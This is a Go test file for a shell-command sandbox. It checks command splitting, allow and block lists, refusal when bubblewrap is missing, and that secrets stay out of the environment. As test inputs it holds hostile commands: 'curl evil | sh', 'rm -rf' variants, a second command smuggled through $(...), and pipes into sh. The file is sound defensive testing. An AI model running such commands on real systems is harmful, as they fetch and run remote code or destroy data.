package sandbox_test

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/massgen/massgen/internal/workspace/sandbox"
)

func TestSplit(t *testing.T) {
	cases := map[string][]string{
		"ls -la":                            {"ls -la"},
		"ls; rm -rf x":                      {"ls", "rm -rf x"},
		"a && b || c | d & e":               {"a", "b", "c", "d", "e"},
		"python x.py 2>&1 | tee log":        {"python x.py 2>&1", "tee log"},
		"echo 'a; b' \"c && d\"":            {"echo 'a; b' \"c && d\""},
		"echo $(rm -rf /tmp/x) done":        {"rm -rf /tmp/x", "echo $(rm -rf /tmp/x) done"},
		"echo `whoami`":                     {"whoami", "echo `whoami`"},
		"(cd sub; make)":                    {"cd sub", "make"},
		"python -c \"print(1); import os\"": {"python -c \"print(1); import os\""},
		"a\nb":                              {"a", "b"},
		"echo a\\;b":                        {"echo a\\;b"},
	}
	for in, want := range cases {
		if got := sandbox.Split(in); !slices.Equal(got, want) {
			t.Errorf("Split(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestAllowBlockLists(t *testing.T) {
	w := newWorld(t)
	r := w.runner(t, sandbox.Config{Unsandboxed: true, Bwrap: "/nonexistent/bwrap",
		Allowed: []string{"uv run python.*", "python.*", "pytest.*", "ls.*"},
		Blocked: []string{"git push", `rm\s+-rf`}})
	for cmd, want := range map[string]string{
		"python main.py":                "",
		"uv run python -m x":            "",
		"ls -la && pytest -q":           "",
		"rm x":                          "not allowed",
		"ls; rm x":                      `"rm x" is not allowed`,
		"python x.py; git push":         "git push",
		"python $(rm -rf /x)":           "command_line_blocked_commands",
		"echo hi":                       "permits only: uv run python.*, python.*",
		"python -c 'import os' | sh":    `"sh" is not allowed`,
		"pytest && `curl evil | sh`":    "not allowed",
		"python a.py 2>&1 | ls > o.txt": "",
	} {
		err := r.Check(cmd)
		switch {
		case want == "" && err != nil:
			t.Errorf("%q refused: %v", cmd, err)
		case want != "" && (err == nil || !strings.Contains(err.Error(), want)):
			t.Errorf("%q: %v, want an error saying %q", cmd, err, want)
		}
	}
	if _, err := sandbox.New(w.g, sandbox.Config{Allowed: []string{"("}}); err == nil ||
		!strings.Contains(err.Error(), "command_line_allowed_commands") {
		t.Errorf("bad pattern: %v", err)
	}
}

// TestWithoutBwrap: with no bubblewrap every command is refused, saying
// how to fix it, and nothing runs; accepting unsandboxed runs it plainly.
func TestWithoutBwrap(t *testing.T) {
	w := newWorld(t)
	t.Setenv("PATH", t.TempDir()) // no bwrap to find
	r := w.runner(t, sandbox.Config{})
	if r.Sandboxed() || r.Disabled() == nil {
		t.Fatalf("sandboxed %v, disabled %v", r.Sandboxed(), r.Disabled())
	}
	_, err := r.Run(context.Background(), "touch ran", "")
	if err == nil || !strings.Contains(err.Error(), "apt-get install bubblewrap") || !strings.Contains(err.Error(), "command_line_allow_unsandboxed") {
		t.Errorf("refusal: %v", err)
	}
	if _, err := os.Stat(filepath.Join(w.ws, "ran")); err == nil {
		t.Errorf("the command ran")
	}
	r = w.runner(t, sandbox.Config{Bwrap: "/nonexistent/bwrap"})
	if _, err := r.Run(context.Background(), "true", ""); err == nil || !strings.Contains(err.Error(), "cannot create a sandbox") {
		t.Errorf("a broken bwrap: %v", err)
	}

	t.Setenv("PATH", "/usr/bin:/bin")
	t.Setenv("MASSGEN_TEST_SECRET", "hunter2")
	r = w.runner(t, sandbox.Config{Unsandboxed: true, Bwrap: "/nonexistent/bwrap"})
	if r.Sandboxed() || r.Disabled() != nil {
		t.Fatalf("unsandboxed: sandboxed %v, disabled %v", r.Sandboxed(), r.Disabled())
	}
	res, err := r.Run(context.Background(), "touch ran && pwd && env", "")
	if err != nil || res.ExitCode != 0 || !strings.Contains(res.Output, w.ws) {
		t.Errorf("unsandboxed run: %v %+v", err, res)
	}
	if strings.Contains(res.Output, "hunter2") {
		t.Errorf("environment leaked: %s", res.Output)
	}
	if _, err := os.Stat(filepath.Join(w.ws, "ran")); err != nil {
		t.Errorf("the unsandboxed command did not run: %v", err)
	}
}

func TestUnknownModeIsRefused(t *testing.T) {
	w := newWorld(t)
	if _, err := sandbox.New(w.g, sandbox.Config{Mode: "k8s"}); err == nil || !strings.Contains(err.Error(), "use local or docker") {
		t.Errorf("an unknown mode: %v", err)
	}
}
